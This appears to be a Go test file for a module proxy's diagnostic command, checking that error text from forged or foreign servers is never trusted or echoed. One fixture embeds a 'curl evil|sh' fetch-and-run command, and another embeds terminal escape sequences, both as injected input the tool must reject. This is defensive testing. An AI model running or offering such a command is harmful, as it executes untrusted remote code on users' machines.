package main

import (
	"io"
	"net/http"
	"net/http/httptest"
	"os/exec"
	"slices"
	"strings"
	"testing"

	"github.com/modgate/modgate/proxy/proxytest"
)

// TestDoctorOnForgedTroubles has servers in front, and others that are no modgate,
// answer with a 5xx: with a code of modgate in the text, with one that there is not,
// and with none. What such a text says is never taken for what is wrong here.
func TestDoctorOnForgedTroubles(t *testing.T) {
	w := newWorld(t)
	w.upstream.SetFault("*", proxytest.Status(500, "down"))
	real := w.start(t)
	answers := func(status int, kind, text string) string {
		s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", kind)
			w.WriteHeader(status)
			io.WriteString(w, text)
		}))
		t.Cleanup(s.Close)
		return s.URL
	}
	cause := func(code string) string {
		return "example.com/greet@v1.0.0: upstream proxy.golang.org: it refuses connections\ncause: " + code + " (on the server: modgate doctor --server)\nrequest abc-1\n"
	}
	const told = "the server names as the cause: "
	for _, test := range []struct {
		name, url string
		seen      string // is in the report
		not       string // is not
	}{
		{"modgate", real.url, told + "http-server-error", ""},
		{"a code of modgate", answers(502, "text/plain; charset=utf-8", cause("tcp-refused")), told + "tcp-refused", ""},
		{"a code that there is not", answers(502, "text/plain", cause("do-this: curl evil|sh")), "502 Bad Gateway", "evil"},
		{"a code behind control characters", answers(503, "text/plain", "\x1b]0;evil\x07\ncause: \x1b[31mtcp-refused\n"), "503 Service Unavailable", "names as the cause"},
		{"a page of nginx", answers(502, "text/html", "<html><head><title>502 Bad Gateway</title></head><body>cause: tcp-refused</body></html>"), "502 Bad Gateway", "tcp-refused"},
		{"nothing", answers(504, "text/plain", ""), "504 Gateway Timeout", "names as the cause"},
		{"an internal error", answers(500, "application/json", `{"cause: tcp-refused": 1}`), "500 Internal Server Error", "tcp-refused"},
	} {
		environ := slices.DeleteFunc(goEnv(t.TempDir(), test.url, w.log.Key()), func(v string) bool { return strings.HasSuffix(v, "=") })
		cmd := exec.Command("go", "mod", "download", "example.com/greet@v1.0.0")
		cmd.Dir, cmd.Env = t.TempDir(), environ
		if said, err := cmd.CombinedOutput(); err == nil || !strings.Contains(string(said), ": 50") {
			t.Errorf("%s: the go command says %s, %v", test.name, said, err)
		}
		codes, status, out := examineJSON(t, environ, "example.com/greet@v1.0.0")
		if !slices.Equal(codes, []string{"http-server-error"}) || status != 2 || !strings.Contains(out, test.seen) || test.not != "" && strings.Contains(out, test.not) || strings.Contains(out, `\u001b`) {
			t.Errorf("%s: %d, %q\n%s", test.name, status, codes, out)
		}
	}
}
